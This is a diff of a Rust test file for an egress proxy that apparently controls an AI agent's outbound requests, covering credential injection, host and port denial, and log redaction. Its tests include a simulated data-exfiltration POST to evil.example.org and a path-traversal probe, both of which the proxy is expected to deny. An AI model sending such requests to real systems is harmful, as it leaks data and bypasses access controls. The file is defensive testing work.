@@ -1,15 +1,15 @@
-//! What passes, what is refused, and what the refused one is told; by curl, as an agent's tools would.
+//! Which requests are forwarded and which are denied, and what the client receives; with curl, like an agent's tools.
 
 use bottle_contract::decide::Reason;
 use bottle_contract::session::bundle::LogLevel;
 use bottle_test_support::upstream::Site;
 
-use super::fixture::{AUTH, ProxyFixture, REAL, SITE, Wanted};
+use super::fixture::{AUTH, FixtureOptions, ProxyFixture, REAL, SITE};
 
 const URL: &str = "https://api.example.com/v1/models?limit=2";
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_real_credential_is_added_outside_and_the_agents_own_removed() {
+async fn injects_the_real_credential_and_strips_the_agents() {
     let proxy = ProxyFixture::open().await;
     for version in ["--http1.1", "--http2"] {
         let headers = ["-H", "Authorization: Bearer placeholder", "-H", "Cookie: a=b", "-H", "X-Kept: 1"];
@@ -23,33 +23,39 @@ async fn the_real_credential_is_added_outside_and_the_agents_own_removed() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn both_ways_in_come_to_the_same_decision() {
+async fn explicit_and_transparent_proxy_decide_alike() {
     let proxy = ProxyFixture::open().await;
     assert_eq!(proxy.curl_transparent(&[URL]).await.status(), 200);
-    let refused = proxy.curl_transparent(&["http://api.example.com/"]).await;
-    assert_eq!((refused.status(), refused.header("x-bottle-reason")), (403, Some("port-not-allowed".into())));
-    let refused = proxy.curl(&["http://api.example.com/"]).await;
-    assert_eq!((refused.status(), refused.header("x-bottle-reason")), (403, Some("port-not-allowed".into())));
+    let response = proxy.curl_transparent(&["http://api.example.com/"]).await;
+    assert_eq!(
+        (response.status(), response.header("x-bottle-reason")),
+        (403, Some("port-not-allowed".into()))
+    );
+    let response = proxy.curl(&["http://api.example.com/"]).await;
+    assert_eq!(
+        (response.status(), response.header("x-bottle-reason")),
+        (403, Some("port-not-allowed".into()))
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_refusal_is_read_inside_the_tunnel_and_told_to_the_keeper_under_one_id() {
+async fn a_denial_has_the_same_id_in_the_response_and_for_the_keeper() {
     let proxy = ProxyFixture::open().await;
     let answer = proxy.curl(&["-X", "POST", "-d", "stolen", "https://evil.example.org/drop?x=1"]).await;
     assert_eq!(answer.status(), 403);
     assert!(answer.text().starts_with("HTTP/1.1 200"), "CONNECT is answered 200");
     let body = answer.json();
-    let told = proxy.refusal().await;
+    let denial = proxy.denial().await;
     assert_eq!(body["reason"], "host-not-allowed");
-    assert_eq!(body["id"], told.id.as_str());
-    assert_eq!(told.reason, Reason::HostNotAllowed);
-    assert_eq!((told.host.as_str(), told.port), ("evil.example.org", 443));
-    assert_eq!((told.method.as_str(), told.path.as_str()), ("POST", "/drop"));
+    assert_eq!(body["id"], denial.id.as_str());
+    assert_eq!(denial.reason, Reason::HostNotAllowed);
+    assert_eq!((denial.host.as_str(), denial.port), ("evil.example.org", 443));
+    assert_eq!((denial.method.as_str(), denial.path.as_str()), ("POST", "/drop"));
     assert!(proxy.site.visits().is_empty());
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn names_that_disagree_are_refused() {
+async fn denies_requests_whose_host_names_disagree() {
     let proxy = ProxyFixture::open().await;
     let answer = proxy.curl(&["-H", "Host: other.example.com", URL]).await;
     assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("authority-mismatch"));
@@ -60,9 +66,9 @@ async fn names_that_disagree_are_refused() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn what_is_decided_on_is_what_is_forwarded() {
+async fn forwards_the_path_that_was_decided_on() {
     let matches = "matches: [{paths: [{type: prefix, value: /v1}], methods: [GET]}]";
-    let proxy = ProxyFixture::with(Wanted { route: matches, ..Wanted::default() }).await;
+    let proxy = ProxyFixture::with(FixtureOptions { route: matches, ..FixtureOptions::default() }).await;
     let get = |path: &str| vec!["--path-as-is".to_owned(), format!("https://{SITE}{path}")];
     for (path, reason) in [
         ("/v1/../admin", "request-not-allowed"),
@@ -82,22 +88,23 @@ async fn what_is_decided_on_is_what_is_forwarded() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn connection_takes_away_neither_what_was_decided_on_nor_what_was_added() {
+async fn connection_header_removes_no_decided_or_injected_header() {
     let matches = "matches: [{headers: [{name: x-env, value: dev}]}]";
-    let proxy = ProxyFixture::with(Wanted { route: matches, ..Wanted::default() }).await;
+    let proxy = ProxyFixture::with(FixtureOptions { route: matches, ..FixtureOptions::default() }).await;
     let answer = proxy.curl(&["--http1.1", "-H", "X-Env: dev", "-H", "Connection: x-env", URL]).await;
     assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("request-not-allowed"));
     assert!(proxy.site.visits().is_empty());
-    let proxy = ProxyFixture::with(Wanted { route: AUTH, ..Wanted::default() }).await;
+    let proxy = ProxyFixture::with(FixtureOptions { route: AUTH, ..FixtureOptions::default() }).await;
     assert_eq!(proxy.curl(&["--http1.1", "-H", "Connection: authorization", URL]).await.status(), 200);
     let visit = proxy.site.visits().pop().expect("a visit");
     assert!(visit.header("authorization").is_some_and(|value| value.contains(REAL)));
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn plain_http_passes_on_port_80_where_a_route_asks_for_it() {
+async fn forwards_plain_http_on_port_80_if_the_route_allows_it() {
     let site = Site { tls: false, ..Site::named(&[SITE]) };
-    let proxy = ProxyFixture::with(Wanted { site, route: "ports: [80]", ..Wanted::default() }).await;
+    let proxy =
+        ProxyFixture::with(FixtureOptions { site, route: "ports: [80]", ..FixtureOptions::default() }).await;
     for answer in [
         proxy.curl(&["http://api.example.com/a"]).await,
         proxy.curl_transparent(&["http://api.example.com/a"]).await,
@@ -109,7 +116,7 @@ async fn plain_http_passes_on_port_80_where_a_route_asks_for_it() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_proxy_tells_its_routes() {
+async fn lists_its_routes() {
     let proxy = ProxyFixture::open().await;
     let answer = proxy.curl(&["http://_egress.local/allowlist"]).await;
     assert_eq!(answer.status(), 200);
@@ -121,12 +128,13 @@ async fn the_proxy_tells_its_routes() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_log_shows_everything_but_the_credential() {
+async fn full_log_omits_the_credential() {
     let route =
         "auth: {scheme: Bearer, slot: key}\n  dlp: {outbound_detectors: false, inbound_detectors: false}";
-    let proxy = ProxyFixture::with(Wanted { route, log: LogLevel::Full, ..Wanted::default() }).await;
-    let said = format!("leak {REAL} here");
-    assert_eq!(proxy.curl(&["-d", &said, "-H", "X-Note: hello", URL]).await.status(), 200);
+    let proxy =
+        ProxyFixture::with(FixtureOptions { route, log: LogLevel::Full, ..FixtureOptions::default() }).await;
+    let body_text = format!("leak {REAL} here");
+    assert_eq!(proxy.curl(&["-d", &body_text, "-H", "X-Note: hello", URL]).await.status(), 200);
     let path = proxy.folder.path().join("egress.jsonl");
     let until = std::time::Instant::now() + std::time::Duration::from_secs(60);
     let line = loop {
@@ -142,16 +150,16 @@ async fn the_log_shows_everything_but_the_credential() {
     assert_eq!((&line["verdict"], &line["status"]), (&"passed".into(), &200.into()));
     let request = line["request"].to_string();
     assert!(request.contains("hello") && request.contains("leak") && !request.contains("authorization"));
-    // The fake site echoes what it was sent, the injected header among it.
+    // The fake site echoes the request, including the injected header.
     assert!(line["response"]["body"].as_str().expect("body").contains("api.example.com"));
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_repository_of_the_gate_is_not_written_through_its_forges_api() {
+async fn denies_forge_api_writes_to_a_gated_repository() {
     let route = "matches: [{methods: [GET, POST, PUT]}, {methods: [PUT], paths: [{type: prefix, value: \
                  /repos/o/docs/contents}]}]";
     let more_routes = "forges: [example.com]\n";
-    let proxy = ProxyFixture::with(Wanted { route, more_routes, ..Wanted::default() }).await;
+    let proxy = ProxyFixture::with(FixtureOptions { route, more_routes, ..FixtureOptions::default() }).await;
     let passing = |path: &str| matches!(path, "/repos/o/r/issues" | "/repos/o/docs/contents/a");
     for version in ["--http1.1", "--http2"] {
         for (method, path) in [
@@ -166,7 +174,7 @@ async fn a_repository_of_the_gate_is_not_written_through_its_forges_api() {
             let answer = proxy.curl(&[version, "-X", method, "-d", "{}", &url]).await;
             assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("use-git-gate"), "{method} {path}");
             assert!(answer.json()["sentence"].as_str().is_some_and(|text| text.contains("Push instead")));
-            assert_eq!(proxy.refusal().await.reason, Reason::UseGitGate);
+            assert_eq!(proxy.denial().await.reason, Reason::UseGitGate);
         }
         assert!(
             proxy.site.visits().iter().all(|visit| visit.method == "GET" || passing(&visit.path)),
